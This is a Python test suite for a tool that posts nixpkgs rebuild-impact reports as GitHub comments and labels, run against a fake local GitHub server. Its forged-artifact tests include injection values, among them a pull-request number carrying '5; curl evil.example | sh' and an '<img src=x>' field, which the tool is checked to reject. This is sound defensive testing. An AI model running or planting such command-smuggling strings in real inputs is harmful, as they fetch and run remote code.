"""impact.github and `impact post`, against a local HTTP server on 127.0.0.1 that speaks the GitHub endpoints
used: list/create/edit issue comments, list/add/remove labels. Nothing here reaches the network."""

from __future__ import annotations

import json
import logging
import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlparse

import pytest

from impact.cli import main
from impact.github import MARKER, GitHub, GitHubError, comment_body, post_report
from tests.pr_reports import LABELS, evaluations, write_pr_report

TOKEN = "ghs_s3cr3tTokenValue0123456789abcdef"
REPO = "acme/nixpkgs"
HEAD = "0123456789abcdef0123456789abcdef01234567"
BOT = "impact-bot"


class FakeGitHub:
    """State and scripted failures of the fake API."""

    def __init__(self) -> None:
        self.comments: list[dict[str, Any]] = [{"id": 7, "body": "an unrelated review comment"}]
        self.labels: list[str] = ["bug", "10.rebuild-linux: 11-100"]
        self.failures: list[tuple[int, dict[str, str]]] = []  # answered, in order, before real answers
        self.requests: list[tuple[str, str]] = []
        self.auth_seen: list[str] = []
        self.next_id = 100
        self.head_sha = HEAD
        self.lock = threading.Lock()


def make_handler(state: FakeGitHub) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:  # keep the test output clean
            pass

        def _send(self, status: int, body: Any = None, headers: dict[str, str] | None = None) -> None:
            raw = json.dumps(body).encode() if body is not None else b""
            self.send_response(status)
            for k, v in (headers or {}).items():
                self.send_header(k, v)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(raw)))
            self.end_headers()
            self.wfile.write(raw)

        def _handle(self, method: str) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = json.loads(self.rfile.read(length)) if length else None
            path = urlparse(self.path).path
            with state.lock:
                state.requests.append((method, path))
                state.auth_seen.append(self.headers.get("Authorization", ""))
                if self.headers.get("Authorization") != f"Bearer {TOKEN}":
                    return self._send(401, {"message": "Bad credentials"})
                if state.failures:
                    status, headers = state.failures.pop(0)
                    return self._send(status, {"message": "scripted failure"}, headers)
                if method == "GET" and path == "/user":
                    return self._send(200, {"login": BOT})
                if method == "GET" and re.fullmatch(f"/repos/{REPO}/pulls/5", path):
                    return self._send(200, {"number": 5, "head": {"sha": state.head_sha}})
                base = f"/repos/{REPO}/issues"
                if method == "GET" and (m := re.fullmatch(base + r"/(\d+)/comments", path)):
                    return self._send(200, state.comments)
                if method == "POST" and re.fullmatch(base + r"/(\d+)/comments", path):
                    state.next_id += 1
                    c = {
                        "id": state.next_id,
                        "body": body["body"],
                        "user": {"login": BOT},
                        "html_url": f"https://example/c/{state.next_id}",
                    }
                    state.comments.append(c)
                    return self._send(201, c)
                if method == "PATCH" and (m := re.fullmatch(base + r"/comments/(\d+)", path)):
                    c = next(c for c in state.comments if c["id"] == int(m.group(1)))
                    c["body"] = body["body"]
                    return self._send(200, {**c, "html_url": f"https://example/c/{c['id']}"})
                if method == "GET" and re.fullmatch(base + r"/(\d+)/labels", path):
                    return self._send(200, [{"name": n} for n in state.labels])
                if method == "POST" and re.fullmatch(base + r"/(\d+)/labels", path):
                    state.labels += [n for n in body["labels"] if n not in state.labels]
                    return self._send(200, [{"name": n} for n in state.labels])
                if method == "DELETE" and (m := re.fullmatch(base + r"/(\d+)/labels/(.+)", path)):
                    state.labels.remove(unquote(m.group(2)))
                    return self._send(200, [{"name": n} for n in state.labels])
                return self._send(404, {"message": "Not Found"})

        def do_GET(self) -> None:
            self._handle("GET")

        def do_POST(self) -> None:
            self._handle("POST")

        def do_PATCH(self) -> None:
            self._handle("PATCH")

        def do_DELETE(self) -> None:
            self._handle("DELETE")

    return Handler


@pytest.fixture
def server() -> Iterator[tuple[FakeGitHub, str]]:
    state = FakeGitHub()
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), make_handler(state))
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield state, f"http://127.0.0.1:{httpd.server_address[1]}"
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join()


@pytest.fixture
def report(tmp_path: Path) -> Path:
    return write_pr_report(tmp_path)


def run_post(url: str, report: Path, monkeypatch: pytest.MonkeyPatch, token: str = TOKEN, *extra: str) -> int:
    monkeypatch.setenv("GITHUB_TOKEN", token)
    return main(["post", "--pr", "5", "--repo", REPO, "--api-url", url, "--report", str(report), *extra])


def test_second_run_edits_the_same_comment(
    server: tuple[FakeGitHub, str],
    report: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    state, url = server
    caplog.set_level(logging.DEBUG)
    assert run_post(url, report, monkeypatch) == 0
    first = capsys.readouterr()
    assert first.out.startswith("created comment 101 on acme/nixpkgs#5")
    write_pr_report(report, *evaluations("libbar"))
    assert run_post(url, report, monkeypatch) == 0
    second = capsys.readouterr()
    assert second.out.startswith("updated comment 101 on acme/nixpkgs#5")
    mine = [c for c in state.comments if MARKER in c["body"]]
    assert len(mine) == 1 and "`libbar-1.0 → libbar-1.1`" in mine[0]["body"] and "libfoo" not in mine[0]["body"]
    assert len(state.comments) == 2  # the unrelated comment is untouched
    assert state.labels == ["bug", *LABELS]
    assert ("DELETE", f"/repos/{REPO}/issues/5/labels/10.rebuild-linux%3A%2011-100") in state.requests
    assert "labels unchanged" in second.out
    assert all(a == f"Bearer {TOKEN}" for a in state.auth_seen)  # the token was used…
    for text in (first.out, first.err, second.out, second.err, caplog.text):  # …and never shown
        assert TOKEN not in text


def test_502_then_200_is_retried(server: tuple[FakeGitHub, str]) -> None:
    state, url = server
    state.failures = [(502, {})]
    waits: list[float] = []
    gh = GitHub(repo=REPO, token=TOKEN, api_url=url, sleep=waits.append, backoff=0.5)
    result = post_report(gh, 5, "## report", ["10.rebuild-linux: 1-10"])
    assert result.comment_action == "created"
    assert waits == [0.5]
    assert state.requests[:2] == [("GET", "/user")] * 2  # the first request, retried


def test_rate_limits_wait_as_asked(server: tuple[FakeGitHub, str]) -> None:
    state, url = server
    reset = str(int(time.time()) + 3)
    state.failures = [(429, {"Retry-After": "7"}), (403, {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": reset})]
    waits: list[float] = []
    gh = GitHub(repo=REPO, token=TOKEN, api_url=url, sleep=waits.append)
    assert gh.comments(5)[0]["id"] == 7
    assert waits[0] == 7.0
    assert 2.0 <= waits[1] <= 4.5


def test_forbidden_without_rate_limit_is_final(server: tuple[FakeGitHub, str]) -> None:
    state, url = server
    state.failures = [(403, {"X-RateLimit-Remaining": "4999"})]
    gh = GitHub(repo=REPO, token=TOKEN, api_url=url, sleep=lambda s: pytest.fail("must not retry"))
    with pytest.raises(GitHubError, match="403") as e:
        gh.comments(5)
    assert e.value.tip and "permissions" in e.value.tip


def test_server_errors_give_up_after_the_retries(server: tuple[FakeGitHub, str]) -> None:
    state, url = server
    state.failures = [(503, {})] * 3
    waits: list[float] = []
    gh = GitHub(repo=REPO, token=TOKEN, api_url=url, sleep=waits.append, retries=2, backoff=1)
    with pytest.raises(GitHubError, match="503"):
        gh.comments(5)
    assert waits == [1, 2]


def test_401_is_one_line_and_exit_2(
    server: tuple[FakeGitHub, str],
    report: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    state, url = server
    caplog.set_level(logging.DEBUG)
    wrong = "ghp_wrongTokenThatMustNotLeak987654321"
    assert run_post(url, report, monkeypatch, wrong) == 2
    out = capsys.readouterr()
    assert out.out == ""
    lines = out.err.strip().splitlines()
    assert len(lines) == 1 and "401" in lines[0] and "Bad credentials" in lines[0] and "GITHUB_TOKEN" in lines[0]
    assert "Traceback" not in out.err
    assert state.auth_seen == [f"Bearer {wrong}"]  # sent once, not retried
    for text in (out.out, out.err, caplog.text):
        assert wrong not in text


def test_missing_token(report: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    assert main(["post", "--pr", "5", "--repo", REPO, "--api-url", "http://127.0.0.1:9", "--report", str(report)]) == 2
    assert "GITHUB_TOKEN is not set" in capsys.readouterr().err


def test_token_scrubbed_from_errors() -> None:
    gh = GitHub(repo=REPO, token=TOKEN, api_url="http://127.0.0.1:9")
    error = gh._error("GET /x", 422, json.dumps({"message": f"token {TOKEN} is odd"}))
    assert TOKEN not in str(error) and "***" in str(error)
    assert TOKEN not in repr(gh)


def test_comment_body_has_marker_and_limit() -> None:
    assert comment_body("hi").startswith(MARKER)
    long = comment_body(MARKER + "x" * 70_000)
    assert len(long) == 65536 and "cut to fit" in long


# -- a report tied to a commit: the number and head commit of a report's files are checked, never trusted --


def run_from_artifact(url: str, report: Path, monkeypatch: pytest.MonkeyPatch, head: str = HEAD) -> int:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    return main(
        [
            "post",
            "--pr-file",
            str(report / "pr-number"),
            "--head-sha",
            head,
            "--repo",
            REPO,
            "--api-url",
            url,
            "--report",
            str(report),
        ]
    )


def writes(state: FakeGitHub) -> list[tuple[str, str]]:
    return [r for r in state.requests if r[0] != "GET"]


def test_pr_number_and_head_from_the_artifact(
    server: tuple[FakeGitHub, str],
    report: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    state, url = server
    (report / "pr-number").write_text("5\n")
    (report / "head-sha").write_text(HEAD + "\n")
    assert run_from_artifact(url, report, monkeypatch) == 0
    assert capsys.readouterr().out.startswith("created comment 101 on acme/nixpkgs#5")
    assert state.requests[0] == ("GET", f"/repos/{REPO}/pulls/5")  # the head is checked before anything is written
    assert ("POST", f"/repos/{REPO}/issues/5/comments") in state.requests


def test_a_pull_request_that_moved_on_gets_nothing(
    server: tuple[FakeGitHub, str],
    report: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    state, url = server
    state.head_sha = "f" * 40  # pushed to after the evaluation, or the artifact named another pull request
    (report / "pr-number").write_text("5\n")
    (report / "head-sha").write_text(HEAD + "\n")
    assert run_from_artifact(url, report, monkeypatch) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "nothing posted" in err[0] and "f" * 40 in err[0]
    assert state.requests == [("GET", f"/repos/{REPO}/pulls/5")] and writes(state) == []


@pytest.mark.parametrize(
    "pr_number, head_file, reason",
    [
        ("5; curl evil.example | sh\n", HEAD, "is not a pull request number"),
        ("05\n", HEAD, "is not a pull request number"),
        ("-5\n", HEAD, "is not a pull request number"),
        ("5\n6\n", HEAD, "is not a pull request number"),
        ("", HEAD, "is not a pull request number"),
        ("5" * 200, HEAD, "not a pull request number"),
        ("5\n", "1" * 40, "the report is for commit"),
        ("5\n", None, "cannot read a commit SHA"),
    ],
)
def test_a_forged_artifact_is_refused_before_any_request(
    server: tuple[FakeGitHub, str],
    report: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    pr_number: str,
    head_file: str | None,
    reason: str,
) -> None:
    state, url = server
    (report / "pr-number").write_text(pr_number)
    if head_file is not None:
        (report / "head-sha").write_text(head_file + "\n")
    assert run_from_artifact(url, report, monkeypatch) == 2
    err = capsys.readouterr().err
    assert reason in err and len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert state.requests == []


def test_head_sha_must_be_a_sha(
    server: tuple[FakeGitHub, str], report: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    state, url = server
    (report / "pr-number").write_text("5\n")
    (report / "head-sha").write_text("main\n")
    assert run_from_artifact(url, report, monkeypatch, head="main") == 2
    assert "is not a commit SHA" in capsys.readouterr().err and state.requests == []


@pytest.mark.parametrize(
    "edit, reason",
    [
        (lambda c: c["labels"]["counts"].update({"anything the fork wants": 3}), "names the kernel"),
        (lambda c: c["labels"].update({"counts": {"linux": -1}}), "is -1, not a count"),
        (lambda c: c["labels"].update({"stdenv": ["darwin"]}), "not evaluated"),
        (lambda c: c.update({"labels": ["10.rebuild-linux: 1-10"]}), "expected an object"),
        (lambda c: c.update({"markdown": "## hi @NixOS/security"}), "is not one the report has"),
        (lambda c: c["causes"][0].update({"chain": 5}), "causes[0].chain is a number, expected a string"),
        (lambda c: c["roots"][0].update({"kind": "<img src=x>"}), "is not one of edited, follows, every_commit"),
        (lambda c: c.update({"roots_total": 0}), "is less than the 1 entries listed"),
        (lambda c: c.update({"version": 1}), "comment version 1, expected 2"),  # the format before the split rows
        (lambda c: c.clear(), "comment version null"),
    ],
)
def test_a_report_that_is_not_what_impact_pr_writes_is_refused(
    server: tuple[FakeGitHub, str],
    report: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    edit: Any,
    reason: str,
) -> None:
    """report.json comes from another job: each field is checked before anything is sent."""
    state, url = server
    data = json.loads((report / "report.json").read_text())
    edit(data["comment"])
    (report / "report.json").write_text(json.dumps(data))
    assert run_post(url, report, monkeypatch) == 2
    err = capsys.readouterr().err
    assert reason in err and len(err.strip().splitlines()) == 1 and "nothing posted" in err, err
    assert state.requests == []


def test_only_labels_impact_sets_are_set(
    server: tuple[FakeGitHub, str], report: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    state, url = server
    assert run_post(url, report, monkeypatch, TOKEN, "--label", "10.rebuild-linux: 1-10", "--label", "merge-ready") == 2
    assert "'merge-ready' is not a label impact sets" in capsys.readouterr().err and state.requests == []
    # the labels in report.json's old place are not read: they follow from the numbers
    data = json.loads((report / "report.json").read_text())
    data["labels"] = ["10.rebuild-anything the fork wants", "10.rebuild-linux: 501+"]
    (report / "report.json").write_text(json.dumps(data))
    assert run_post(url, report, monkeypatch) == 0
    assert state.labels == ["bug", *LABELS]


@pytest.mark.parametrize("given", [[], ["--pr", "5", "--pr-file", "pr-number"]])
def test_pr_given_exactly_once(
    report: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], given: list[str]
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    assert main(["post", *given, "--repo", REPO, "--api-url", "http://127.0.0.1:9", "--report", str(report)]) == 2
    assert "--pr N or as --pr-file FILE" in capsys.readouterr().err
